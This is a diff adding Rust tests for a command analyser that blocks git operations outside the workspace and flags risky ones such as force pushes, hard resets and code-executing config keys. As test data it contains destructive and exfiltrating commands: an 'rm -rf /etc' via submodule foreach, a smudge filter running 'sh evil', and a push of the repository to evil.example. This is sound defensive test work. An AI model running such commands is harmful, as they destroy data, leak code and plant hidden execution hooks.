@@ -0,0 +1,363 @@
+use clarg::bash_analyzer::{PathContext, extract_paths};
+use clarg::facts::Fact;
+
+use super::{blocked, facts};
+
+fn git_paths(cmd: &str) -> Vec<(String, String)> {
+    extract_paths(cmd)
+        .into_iter()
+        .map(|ep| (ep.raw, ep.context.label().to_string()))
+        .collect()
+}
+
+fn fact_names(cmd: &str) -> Vec<String> {
+    facts(cmd, "").into_iter().map(|f| f.name).collect()
+}
+
+// ============================================================================
+// Repository-relocating options
+// ============================================================================
+
+#[test]
+fn test_git_dash_c_outside_blocked() {
+    assert!(blocked("git -C /etc status"));
+    assert!(!blocked("git -C sub status"));
+}
+
+#[test]
+fn test_git_dash_c_labelled() {
+    assert!(
+        git_paths("git -C /srv/repo log")
+            .contains(&("/srv/repo".to_string(), "git -C directory".to_string()))
+    );
+}
+
+#[test]
+fn test_git_dir_and_work_tree_blocked() {
+    assert!(blocked("git --git-dir=/home/me/other/.git log"));
+    assert!(blocked("git --work-tree /tmp/wt status"));
+    assert!(!blocked("git --git-dir .git --work-tree . status"));
+}
+
+#[test]
+fn test_git_dash_c_rebases_relative_paths() {
+    // `git -C /srv add ./x` adds /srv/x
+    assert!(blocked("git -C /srv add ./x"));
+    let paths = git_paths("git -C sub add ./x");
+    assert!(paths.iter().any(|(raw, _)| raw == "sub/./x"));
+}
+
+#[test]
+fn test_git_repeated_dash_c_accumulates() {
+    let paths = git_paths("git -C a -C b status");
+    assert!(paths.iter().any(|(raw, _)| raw == "a/b"));
+}
+
+#[test]
+fn test_git_config_option_not_a_path() {
+    assert!(!blocked("git -c user.name=/weird/name status"));
+}
+
+// ============================================================================
+// clone, worktree, submodule
+// ============================================================================
+
+#[test]
+fn test_git_clone_target_outside_blocked() {
+    assert!(blocked("git clone https://github.com/a/b.git /tmp/b"));
+    assert!(!blocked("git clone https://github.com/a/b.git vendor/b"));
+    assert!(!blocked("git clone --depth 1 https://github.com/a/b.git"));
+}
+
+#[test]
+fn test_git_clone_local_source_outside_blocked() {
+    assert!(blocked("git clone /home/me/secret-repo copy"));
+    assert!(blocked("git clone file:///home/me/secret-repo copy"));
+    assert!(!blocked("git clone git@github.com:a/b.git copy"));
+}
+
+#[test]
+fn test_git_clone_value_flags_skipped() {
+    let paths = git_paths("git clone -b main --origin up https://x/y.git dest");
+    assert_eq!(
+        paths,
+        vec![("dest".to_string(), "git clone target".to_string())]
+    );
+}
+
+#[test]
+fn test_git_clone_separate_git_dir_blocked() {
+    assert!(blocked(
+        "git clone --separate-git-dir=/tmp/gd https://x/y.git dest"
+    ));
+}
+
+#[test]
+fn test_git_worktree_add_outside_blocked() {
+    assert!(blocked("git worktree add ../sibling feature"));
+    assert!(blocked("git worktree add -b feat /tmp/wt"));
+    assert!(!blocked("git worktree add .worktrees/feat feat"));
+}
+
+#[test]
+fn test_git_worktree_move_outside_blocked() {
+    assert!(blocked("git worktree move wt /tmp/wt"));
+}
+
+#[test]
+fn test_git_submodule_add_path_outside_blocked() {
+    assert!(blocked("git submodule add https://x/y.git ../outside"));
+    assert!(!blocked("git submodule add https://x/y.git libs/y"));
+}
+
+#[test]
+fn test_git_submodule_foreach_analysed() {
+    assert!(blocked("git submodule foreach 'rm -rf /etc/x'"));
+    assert!(!blocked("git submodule foreach git pull"));
+}
+
+// ============================================================================
+// Risky subcommands as facts
+// ============================================================================
+
+#[test]
+fn test_git_push_force_fact() {
+    let facts = facts("git push --force origin main", "");
+    assert_eq!(facts.len(), 1);
+    assert_eq!(facts[0].name, "git.push.force");
+    assert_eq!(facts[0].attr("via"), Some("--force"));
+    assert_eq!(facts[0].attr("remote"), Some("origin"));
+    assert_eq!(facts[0].attr("refspec"), Some("main"));
+}
+
+#[test]
+fn test_git_push_force_variants() {
+    assert_eq!(facts("git push -f", "")[0].attr("via"), Some("-f"));
+    assert_eq!(
+        facts("git push -uf origin x", "")[0].attr("via"),
+        Some("-f")
+    );
+    assert_eq!(
+        facts("git push origin +main", "")[0].attr("via"),
+        Some("+refspec")
+    );
+    assert_eq!(
+        facts("git push --force-with-lease=main origin", "")[0].attr("via"),
+        Some("--force-with-lease")
+    );
+}
+
+#[test]
+fn test_git_push_plain_no_fact() {
+    assert!(fact_names("git push -u origin main").is_empty());
+}
+
+#[test]
+fn test_git_reset_hard_fact() {
+    let facts = facts("git reset --hard HEAD~2", "");
+    assert_eq!(facts[0].name, "git.reset.hard");
+    assert_eq!(facts[0].attr("target"), Some("HEAD~2"));
+    assert!(fact_names("git reset --soft HEAD~1").is_empty());
+}
+
+#[test]
+fn test_git_clean_fact() {
+    let facts = facts("git clean -fdx", "");
+    assert_eq!(facts[0].name, "git.clean.force");
+    assert_eq!(facts[0].attr("directories"), Some("true"));
+    assert_eq!(facts[0].attr("ignored"), Some("true"));
+    assert!(fact_names("git clean -n").is_empty());
+    assert!(fact_names("git clean -fdn").is_empty());
+}
+
+#[test]
+fn test_git_checkout_discard_fact() {
+    let facts = facts("git checkout -- .", "");
+    assert_eq!(facts[0].name, "git.checkout.discard");
+    assert_eq!(facts[0].attr("paths"), Some("."));
+    assert_eq!(fact_names("git checkout ."), vec!["git.checkout.discard"]);
+    assert!(fact_names("git checkout -b feature").is_empty());
+    assert!(fact_names("git checkout main").is_empty());
+}
+
+#[test]
+fn test_git_restore_discard_fact() {
+    assert_eq!(fact_names("git restore src/"), vec!["git.restore.discard"]);
+    assert!(fact_names("git restore --staged src/").is_empty());
+}
+
+#[test]
+fn test_git_branch_force_delete_fact() {
+    let facts = facts("git branch -D old", "");
+    assert_eq!(facts[0].name, "git.branch.force-delete");
+    assert_eq!(facts[0].attr("branch"), Some("old"));
+    assert_eq!(
+        fact_names("git branch --delete --force old"),
+        vec!["git.branch.force-delete"]
+    );
+    assert!(fact_names("git branch -d merged").is_empty());
+}
+
+#[test]
+fn test_git_filter_branch_fact() {
+    assert_eq!(
+        fact_names("git filter-branch --index-filter 'git rm --cached x' HEAD"),
+        vec!["git.filter-branch"]
+    );
+}
+
+#[test]
+fn test_git_no_verify_fact() {
+    let facts = facts("git commit --no-verify -m wip", "");
+    assert_eq!(facts[0].name, "git.no-verify");
+    assert_eq!(facts[0].attr("subcommand"), Some("commit"));
+    assert_eq!(fact_names("git commit -nm wip"), vec!["git.no-verify"]);
+    assert!(fact_names("git commit -m 'no verify'").is_empty());
+}
+
+#[test]
+fn test_git_hooks_path_fact() {
+    let facts = facts("git config core.hooksPath /tmp/hooks", "");
+    assert_eq!(facts[0].name, "git.config.hooks-path");
+    assert_eq!(facts[0].attr("value"), Some("/tmp/hooks"));
+    assert_eq!(
+        fact_names("git -c core.hookspath=/tmp/h commit -m x"),
+        vec!["git.config.hooks-path"]
+    );
+    assert!(fact_names("git config user.name me").is_empty());
+}
+
+#[test]
+fn test_git_config_exec_fact() {
+    let facts = facts("git config core.fsmonitor ./watch.sh", "");
+    assert_eq!(facts[0].name, "git.config.exec");
+    assert_eq!(facts[0].attr("key"), Some("core.fsmonitor"));
+    assert_eq!(facts[0].attr("source"), Some("git config"));
+    assert_eq!(
+        fact_names("git config filter.x.smudge 'sh evil'"),
+        vec!["git.config.exec"]
+    );
+    assert_eq!(
+        fact_names("git config set core.sshCommand 'ssh -i k'"),
+        vec!["git.config.exec"]
+    );
+    assert_eq!(
+        fact_names("git config alias.up '!sh x'"),
+        vec!["git.config.exec"]
+    );
+    assert!(fact_names("git config alias.st status").is_empty());
+    assert!(fact_names("git config filter.lfs.required true").is_empty());
+}
+
+#[test]
+fn test_git_config_reads_no_fact() {
+    assert!(fact_names("git config --get core.hooksPath").is_empty());
+    assert!(fact_names("git config core.pager").is_empty());
+    assert!(fact_names("git config get core.editor").is_empty());
+    assert!(fact_names("git config --unset core.pager").is_empty());
+}
+
+#[test]
+fn test_git_dash_c_config_source() {
+    let facts = facts("git -c core.pager=less log", "");
+    assert_eq!(facts[0].name, "git.config.exec");
+    assert_eq!(facts[0].attr("source"), Some("git -c"));
+}
+
+#[test]
+fn test_git_facts_found_through_wrappers_and_shells() {
+    assert_eq!(fact_names("sudo git push -f"), vec!["git.push.force"]);
+    assert_eq!(
+        fact_names("bash -c 'git reset --hard'"),
+        vec!["git.reset.hard"]
+    );
+    assert_eq!(
+        fact_names("git -C repo reset --hard"),
+        vec!["git.reset.hard"]
+    );
+}
+
+#[test]
+fn test_git_fact_records_sub_command() {
+    let facts = facts("cargo test && git push -f origin main", "");
+    assert_eq!(facts[0].command, "git push -f origin main");
+}
+
+#[test]
+fn test_git_path_context_variant() {
+    let paths = extract_paths("git -C /x status");
+    assert!(matches!(
+        paths[0].context,
+        PathContext::GitPath {
+            label: "git -C directory",
+            write: false
+        }
+    ));
+    let paths = extract_paths("git clone https://x/y.git dest");
+    assert!(paths[0].context.is_write());
+}
+
+// ============================================================================
+// Remote URLs
+// ============================================================================
+
+fn git_remote(cmd: &str) -> Fact {
+    facts(cmd, "")
+        .into_iter()
+        .find(|f| f.name == "network.git")
+        .unwrap_or_else(|| panic!("no network.git fact for: {cmd}"))
+}
+
+#[test]
+fn test_git_clone_url_fact() {
+    let f = git_remote("git clone --depth 1 https://github.com/org/repo.git dest");
+    assert_eq!(f.attr("host"), Some("github.com"));
+    assert_eq!(f.attr("scheme"), Some("https"));
+    assert_eq!(f.attr("subcommand"), Some("clone"));
+}
+
+#[test]
+fn test_git_scp_like_remote_fact() {
+    let f = git_remote("git clone git@GitLab.example:team/app.git");
+    assert_eq!(f.attr("host"), Some("gitlab.example"));
+    assert_eq!(f.attr("scheme"), Some("ssh"));
+}
+
+#[test]
+fn test_git_push_fetch_url_facts() {
+    assert_eq!(
+        git_remote("git push https://evil.example/x.git HEAD").attr("host"),
+        Some("evil.example")
+    );
+    assert_eq!(
+        git_remote("git fetch --depth 5 ssh://git@h:2222/r").attr("port"),
+        Some("2222")
+    );
+    assert_eq!(
+        git_remote("git ls-remote git://mirror.example/r").attr("subcommand"),
+        Some("ls-remote")
+    );
+    assert_eq!(
+        git_remote("git remote add up https://up.example/r").attr("host"),
+        Some("up.example")
+    );
+    assert_eq!(
+        git_remote("git submodule add https://sub.example/r lib").attr("host"),
+        Some("sub.example")
+    );
+}
+
+#[test]
+fn test_git_named_and_local_remotes_no_network_fact() {
+    for cmd in [
+        "git push origin main",
+        "git fetch upstream",
+        "git clone ../other",
+        "git pull",
+    ] {
+        assert!(
+            !fact_names(cmd).contains(&"network.git".to_string()),
+            "{cmd}"
+        );
+    }
+}